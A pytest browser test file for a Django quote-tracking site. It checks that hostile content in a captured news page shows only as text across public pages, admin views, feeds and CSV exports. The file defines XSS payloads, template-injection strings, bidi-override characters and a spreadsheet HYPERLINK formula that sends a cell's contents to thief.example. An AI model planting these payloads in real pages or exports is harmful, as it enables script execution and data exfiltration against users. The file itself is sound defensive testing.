"""Whatever a page we capture says, it is shown as text: in public, in the admin, in feeds and in CSV."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from django.contrib.auth.models import AbstractUser
from django.test import Client

from tests import cast
from tests.browser.conftest import sign_in
from tracker.actions.comparing import compare
from tracker.actions.deciding import accept
from tracker.actions.proposing import propose
from tracker.actions.publishing import publish_all
from tracker.ingest import types
from tracker.models import Article, Outlet, Proposal, Quotation, Snapshot, Submission

pytestmark = pytest.mark.browser

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=/attacked onerror=alert(2)>'
VECTOR = "</textarea></title><svg onload=alert(3)>"
TEMPLATE = "{{ 7|add:7 }} {% now 'Y' %}"
FORMULA = '=HYPERLINK("https://thief.example/?"&A1,"open")'
SAID = f"{FORMULA} we said {SCRIPT} and {IMAGE} to all who asked us about the rule"
TEXT = f"""{VECTOR} The mayor spoke. “{SAID},” said {IMAGE} of Chicago, Illinois. {TEMPLATE}

Nothing else happened at the hall that day, and everybody went home. \u202eenil siht daeR\u202c \u2028 <!-- -->
"""


@dataclass(frozen=True, slots=True)
class Attacked:
    """A tracker that took in a hostile page and published what it said."""

    editor: AbstractUser
    article: Article
    quotation: Quotation
    snapshot: Snapshot
    submission: Submission
    open_proposal: Proposal


@pytest.fixture
def attacked(transactional_db: None, tmp_path: Path, settings: Any) -> Attacked:
    location = {"location": str(tmp_path), "allow_overwrite": False}
    settings.STORAGES = {
        **settings.STORAGES,
        "snapshots": {**settings.STORAGES["snapshots"], "OPTIONS": location},
    }
    curator, editor = cast.user("curator", "curator"), cast.user("editor", "editor")
    submission, snapshot = cast.capture(
        TEXT,
        by=curator,
        name=f"{IMAGE}.html",
        title=f"{SCRIPT} {VECTOR}",
        bylines=(IMAGE, TEMPLATE),
        published_on="2025-03-04",
        published_precision="day",
        outlet_name=f"Courier {SCRIPT}",
        outlet_domain="courier.example",
        canonical_url="https://courier.example/?q=%22%3E%3Cscript%3Ealert(4)%3C/script%3E",
    )
    quote = types.Quote(
        cast.span(TEXT, SAID),
        form="direct",
        confidence=0.97,
        speaker_confidence=0.9,
        speaker_name=f"{IMAGE}",
        speaker_text=SCRIPT,
    )
    other = types.Quote(
        cast.span(TEXT, "The mayor spoke."), form="direct", confidence=0.5, speaker_name=SCRIPT
    )
    hint = types.DerivationHint(
        cast.span(TEXT, VECTOR), "re_reports", SCRIPT, "javascript:alert(5)", confidence=0.9
    )
    extraction = types.Extraction(text=TEXT, quotes=(quote, other), derivations=(hint,))
    propose(snapshot, submission, extraction=extraction, extractor="tracker", version="1")
    compare(snapshot, submission)
    proposals = list(Proposal.objects.filter(kind="quotation").order_by("-confidence"))
    quotation = accept(proposals[0], by=curator, changes={"occasion": IMAGE})
    assert isinstance(quotation, Quotation)
    publish_all([snapshot.article, *Outlet.objects.all(), quotation], by=editor, reason=SCRIPT)
    for record in (quotation, snapshot.article):
        record.refresh_from_db()
    return Attacked(editor, snapshot.article, quotation, snapshot, submission, proposals[1])


@pytest.fixture
def fallen(page: Any) -> list[str]:
    """Dialogs that opened and requests that only an attack makes."""
    seen: list[str] = []

    def closed(dialog: Any) -> None:
        seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", closed)
    page.on("request", lambda asked: seen.append(asked.url) if asked.url.endswith("/attacked") else None)
    return seen


def test_public_pages_show_attacks_as_text(
    attacked: Attacked, page: Any, live_server: Any, fallen: list[str], blocked: list[str]
) -> None:
    for address, shown in (
        ("/articles/", SCRIPT),
        (f"/articles/{attacked.article.slug}/", SCRIPT),
        ("/quotations/", "we said <script>"),
        (f"/quotations/{attacked.quotation.slug}/", SCRIPT),
        (f"/sources/{attacked.snapshot.sha256}/", SCRIPT),
        ("/outlets/", SCRIPT),
        ("/search/?q=mayor+%3Cscript%3Ealert(6)%3C/script%3E", "alert(6)"),
        ("/search/?q=spoke", SCRIPT),
        ("/", ""),
    ):
        answer = page.goto(live_server.url + address)
        assert answer.status == 200, address
        everything = (
            page.locator("body").inner_text() + page.locator("#q, input[type=search]").first.input_value()
        )
        assert shown in everything, address
        assert "14 20" not in everything, address
        assert page.locator("a[href^='javascript']").count() == 0, address
        assert page.locator("main script, main svg[onload], main img[src='/attacked']").count() == 0, address
    assert fallen == blocked == []


def test_admin_shows_attacks_as_text(
    attacked: Attacked, page: Any, live_server: Any, fallen: list[str], blocked: list[str]
) -> None:
    sign_in(page, live_server.url, user="editor", password="editor")
    for address in (
        "/admin/review/",
        *(f"/admin/review/{attacked.submission.pk}/?at={one.pk}" for one in Proposal.objects.all()),
        f"/admin/add/{attacked.submission.pk}/",
        f"/admin/captures/{attacked.snapshot.pk}/changes/",
        "/admin/tracker/article/",
        f"/admin/tracker/article/{attacked.article.pk}/change/",
        f"/admin/tracker/article/{attacked.article.pk}/history/",
        f"/admin/tracker/quotation/{attacked.quotation.pk}/change/",
        "/admin/tracker/quotation/?q=%3Cscript%3Ealert(7)%3C/script%3E",
        "/admin/tracker/snapshot/",
        "/admin/tracker/submission/",
        "/admin/tracker/derivation/",
    ):
        answer = page.goto(live_server.url + address)
        assert answer.status == 200, address
        assert page.locator("a[href^='javascript']").count() == 0, address
        assert page.locator("img[src='/attacked'], svg[onload]").count() == 0, address
    page.goto(f"{live_server.url}/admin/review/{attacked.submission.pk}/?at={attacked.open_proposal.pk}")
    assert SCRIPT in page.locator(".review-text").inner_text()
    assert fallen == blocked == []


@pytest.mark.django_db(transaction=True)
def test_feeds_and_tables_carry_attacks_as_text(attacked: Attacked, client: Client) -> None:
    for kind in ("articles", "quotations"):
        feed = ElementTree.fromstring(client.get(f"/{kind}.atom").content)
        assert "<script" in "".join(feed.itertext())
        assert not [one for one in feed.iter() if one.tag.endswith(("script", "svg", "img"))]
        for link in feed.iter("{http://www.w3.org/2005/Atom}link"):
            assert link.get("href", "").startswith("http")
        table = b"".join(client.get(f"/{kind}.csv")).decode()
        cells = [cell for row in csv.reader(io.StringIO(table, newline="")) for cell in row]
        assert any("<script>" in cell for cell in cells)
        assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r\n\0＝＋－＠")]
        answer = client.get(f"/{kind}.json")
        assert answer["Content-Type"].startswith("application/json")
        assert answer["X-Content-Type-Options"] == "nosniff"
